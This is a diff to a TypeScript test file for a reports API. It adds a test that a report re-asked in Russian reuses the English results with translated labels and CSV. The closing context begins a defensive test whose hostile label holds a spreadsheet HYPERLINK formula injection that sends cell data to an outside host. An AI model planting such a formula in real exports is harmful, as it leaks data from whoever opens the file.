@@ -307,6 +307,44 @@ describe('reports', () => {
     expect(n).toBeGreaterThanOrEqual(2);
   });
 
+  it('takes the same question asked again in another language as the same question: reused, in the new language, listed and counted once', async () => {
+    const question = { countries: ['KG', 'KZ'], k: 6, compareBy: 'country' };
+    const english = await request(researcher, { ...question, lang: 'en' });
+    expect(english.reused).toBe(false);
+    const russian = await http(`${api.url}/api/v1/reports`, { body: { ...question, lang: 'ru' }, token: researcher.accessToken });
+    expect(russian.status).toBe(202);
+    // Reused (and said so), done at once, nothing queued: the same figures, written in Russian.
+    expect(russian.body).toMatchObject({ status: 'done', reused: true });
+    expect(russian.body.params.lang).toBe('ru');
+    const result = russian.body.result;
+    expect(result.lang).toBe('ru');
+    expect(result.total).toEqual(english.result.total);
+    expect(result.crossTab.cells).toEqual(english.result.crossTab.cells);
+    expect(result.breakdowns).toEqual(
+      Object.fromEntries(Object.entries(english.result.breakdowns as Record<string, { rows: Array<{ label: string }> }>).map(([b, t]) => [b, { ...t, rows: t.rows.map((r) => ({ ...r, label: expect.any(String) })) }])),
+    );
+    expect(result.comparison.units.map((u: { label: string }) => u.label)).toEqual(['Кыргызстан', 'Казахстан']);
+    expect(result.crossTab.rows.find((r: { key: string }) => r.key === 'police').label).toBe('Полиция');
+    expect(result.rule.description).toMatch(/^Значения от 1 до 5 не показываются/);
+    expect(result.description.title).toMatch(/^Нарушения прав человека/);
+    // Its downloads are Russian too.
+    const csv = await (await fetch(`${api.url}/api/v1/reports/${russian.body.id}/download?format=csv`, { headers: { authorization: `Bearer ${researcher.accessToken}` } })).text();
+    expect(csv).toContain('# название: ');
+    const [{ queued }] = await db.query(`SELECT count(*)::int AS queued FROM outbox WHERE job_id = $1`, [`report-${russian.body.id}`]);
+    expect(queued).toBe(0);
+    // One question: one line in "recent reports" (the newest asking, in Russian), one distinct question counted.
+    const recent = await http(`${api.url}/api/v1/reports?limit=50`, { token: researcher.accessToken });
+    const ids: string[] = recent.body.items.map((r: { id: string }) => r.id);
+    expect(ids).toContain(russian.body.id);
+    expect(ids).not.toContain(english.id);
+    const [{ questions }] = await db.query(`SELECT count(DISTINCT params_hash)::int AS questions FROM reports WHERE id = ANY($1::uuid[])`, [[english.id, russian.body.id]]);
+    expect(questions).toBe(1);
+    // Asked again in English: the English answer, reused as it was.
+    const again = await http(`${api.url}/api/v1/reports`, { body: { ...question, lang: 'en' }, token: researcher.accessToken });
+    expect(again.body).toMatchObject({ status: 'done', reused: true });
+    expect(again.body.result).toEqual(english.result);
+  });
+
   it('writes a hostile region-group label inert into every line of the CSV, description block included', async () => {
     const hostile = 'North,=HYPERLINK("http://x/?q="&A2),-2+3';
     const put = await http(`${api.url}/api/v1/region-groups/kz_hostile`, {
